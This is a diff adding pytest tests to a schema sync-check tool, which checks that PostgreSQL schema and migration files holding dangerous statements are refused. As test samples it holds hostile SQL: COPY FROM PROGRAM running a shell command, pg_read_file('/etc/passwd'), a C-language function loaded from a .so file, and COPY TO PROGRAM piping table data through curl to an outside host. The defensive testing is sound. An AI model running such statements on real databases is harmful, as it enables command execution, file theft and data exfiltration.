@@ -1037,3 +1037,90 @@ def test_the_child_importing_the_models_ends_when_the_check_is_killed(
         time.sleep(0.1)
     else:
         pytest.fail("the child importing the models module still runs")
+
+
+# --- the PostgreSQL schema and migrations ---------------------------------------------------
+
+PG_FILES = ("orch_database_models.py", "schema_orchestrator.sql", "database.py")
+PG_ATTACKS = {
+    "copy-from-program": ("COPY agents FROM PROGRAM 'touch pwned';", "COPY statement"),
+    "do-block": ("DO $$ BEGIN PERFORM pg_sleep(3600); END $$;", "DO statement"),
+    "extension": ("CREATE EXTENSION IF NOT EXISTS file_fdw;", "CREATE EXTENSION"),
+    "file-function": ("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');", "pg_read_file()"),
+    "function-in-c": ("CREATE FUNCTION f() RETURNS int AS 'x.so' LANGUAGE c;", "LANGUAGE c"),
+}
+
+
+@pytest.fixture
+def pg_repo(tmp_path: Path) -> Path:
+    """A repository whose agreement has the PostgreSQL schema, module and migrations."""
+    root = tmp_path / "repo"
+    orch = Path(__file__).parents[1] / "tac_bootstrap" / "orchestrator"
+    shutil.copytree(orch, root / "pkg", ignore=shutil.ignore_patterns("__pycache__"))
+    names = zip(
+        ("models", "schema", "database", "postgres_schema", "postgres_database"),
+        (*PG_FILES, "schema_postgres.sql", "database_postgres.py"),
+        strict=True,
+    )
+    (root / "pyproject.toml").write_text(
+        "[tool.tac-bootstrap.sync.agreement]\n"
+        + "".join(f'{key} = "pkg/{name}"\n' for key, name in names)
+    )
+    return root
+
+
+@pytest.mark.parametrize("attack", sorted(PG_ATTACKS))
+@pytest.mark.parametrize(
+    "name", ["schema_postgres.sql", "migrations_postgres/0003_refuse_what_models_refuse.sql"]
+)
+def test_postgres_file_holding_what_a_schema_never_needs_is_refused(
+    pg_repo: Path, tmp_path: Path, name: str, attack: str
+) -> None:
+    sql, word = PG_ATTACKS[attack]
+    path = pg_repo / "pkg" / name
+    lines = len(path.read_text().splitlines())
+    path.write_text(path.read_text() + "\n-- the attack\n" + sql + "\n")
+    before = snapshot(tmp_path)
+    proc = run("sync-check", "--root", pg_repo, "--no-cache", cwd=tmp_path)
+    assert_one_error(proc, f"pkg/{name}: refused, the PostgreSQL ", f"pkg/{name}:{lines + 3}: ")
+    assert word in proc.stderr
+    assert snapshot(tmp_path) == before
+
+
+def test_postgres_refusal_in_json_is_a_document_with_ok_false(
+    pg_repo: Path, tmp_path: Path
+) -> None:
+    migration = pg_repo / "pkg" / "migrations_postgres" / "0004_later.sql"
+    migration.write_text("COPY agents TO PROGRAM 'curl -d @- example.com';\n")
+    proc = run("sync-check", "--root", pg_repo, "--format", "json", cwd=tmp_path)
+    assert proc.returncode == 2
+    data = json.loads(proc.stdout)
+    assert data["ok"] is False
+    assert "pkg/migrations_postgres/0004_later.sql:1: COPY statement" in data["error"]
+
+
+def test_a_postgres_schema_version_too_big_for_a_list_is_a_problem(
+    pg_repo: Path, tmp_path: Path
+) -> None:
+    module = pg_repo / "pkg" / "database_postgres.py"
+    module.write_text(
+        module.read_text().replace("SCHEMA_VERSION = 3\n", f"SCHEMA_VERSION = {10**22}\n")
+    )
+    proc = run("sync-check", "--root", pg_repo, "--no-cache", cwd=tmp_path)
+    assert proc.returncode == 1, proc.stderr
+    assert "Traceback" not in proc.stderr
+    assert f"postgres says {10**22}" in proc.stdout
+
+
+@pytest.mark.parametrize("fmt", ["text", "github"])
+def test_a_fifo_as_the_step_summary_does_not_hang_the_check(
+    repo: Path, tmp_path: Path, fmt: str
+) -> None:
+    both(repo, "schema.sql", lambda text: text + "ATTACH 'x.db' AS x;\n")
+    fifo = tmp_path / "summary"
+    os.mkfifo(fifo)  # nothing reads it: opening it to write would wait forever
+    proc = run(
+        "sync-check", "--root", repo, "--no-cache", "--format", fmt,
+        cwd=tmp_path, env={"GITHUB_STEP_SUMMARY": str(fifo)},
+    )  # fmt: skip
+    assert_one_error(proc, "pkg/orch/schema.sql")
